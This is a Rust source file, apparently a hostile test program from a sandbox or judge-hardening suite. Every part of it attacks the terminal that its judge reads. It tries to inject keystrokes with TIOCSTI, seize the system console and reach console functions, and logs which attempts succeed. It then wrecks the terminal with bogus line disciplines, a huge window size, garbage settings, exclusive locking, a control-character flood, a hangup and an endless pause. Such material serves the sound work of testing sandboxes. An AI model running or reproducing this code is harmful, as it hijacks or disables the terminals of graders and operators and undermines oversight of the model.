//! Spoils the terminal that is its standard output, which its judge reads: keeps it
//! for itself, stops it, makes it a modem, says that its window is enormous.

const TIOCEXCL: i64 = 0x540c;
const TCXONC: i64 = 0x540a;
const TCSETS: i64 = 0x5402;
const TIOCSETD: i64 = 0x5423;
const TIOCSWINSZ: i64 = 0x5414;
const TIOCSCTTY: i64 = 0x540e;
const TIOCCONS: i64 = 0x541d;
const TIOCSTI: i64 = 0x5412;
const TIOCVHANGUP: i64 = 0x5437;
const TIOCLINUX: i64 = 0x541c;

pub fn run(_port: u16) -> sockets::Result<()> {
    mark();
    let mut loot = Loot::default();
    // SAFETY: the calls take numbers and structures of the size that they ask for.
    unsafe {
        let ioctl = |call: i64, what: *const u8| c::syscall(16, 1, call, what) == 0;
        loot.attempt("type", ioctl(TIOCSTI, b"x".as_ptr()));
        loot.attempt("the machine's console", ioctl(TIOCCONS, std::ptr::null()));
        loot.attempt("the console's functions", ioctl(TIOCLINUX, b"\x0b".as_ptr()));
        loot.tell();
        // Its own to spoil; what follows is said to nobody.
        ioctl(TIOCSCTTY, 1 as *const u8);
        for discipline in 0..32i32 {
            ioctl(TIOCSETD, (&raw const discipline).cast());
        }
        ioctl(TIOCSETD, [0i32].as_ptr().cast());
        ioctl(TIOCSWINSZ, [u16::MAX; 4].as_ptr().cast());
        ioctl(TCSETS, [0xffu8; 64].as_ptr());
        ioctl(TIOCEXCL, std::ptr::null());
        println!("{}", "\x13\x11\x03\x04\x1a".repeat(1000));
        ioctl(TCXONC, std::ptr::null());
        ioctl(TIOCVHANGUP, std::ptr::null());
        loop {
            c::pause();
        }
    }
}
